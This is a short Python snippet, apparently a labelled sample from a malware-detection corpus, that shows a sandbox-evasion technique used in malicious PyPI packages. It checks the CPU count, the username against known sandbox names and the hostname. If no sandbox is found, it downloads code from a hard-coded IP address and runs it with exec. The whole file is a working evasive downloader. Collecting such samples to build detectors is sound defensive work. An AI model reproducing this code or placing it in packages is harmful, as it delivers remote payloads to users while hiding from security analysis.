# technique: sandbox check (CPU count / hostname / user) before the payload
# class: anti-analysis
# source: Checkmarx, sandbox-evading PyPI malware; GuardDog docs on evasion checks
# declares: network
import getpass
import os
import socket
import urllib.request

BAD_USERS = {"WDAGUtilityAccount", "sandbox", "malware", "virus", "John Doe"}


def main():
    if os.cpu_count() < 2 or getpass.getuser() in BAD_USERS or socket.gethostname().startswith("DESKTOP-"):
        return
    exec(urllib.request.urlopen("http://45.9.148.99/p.py", timeout=5).read())
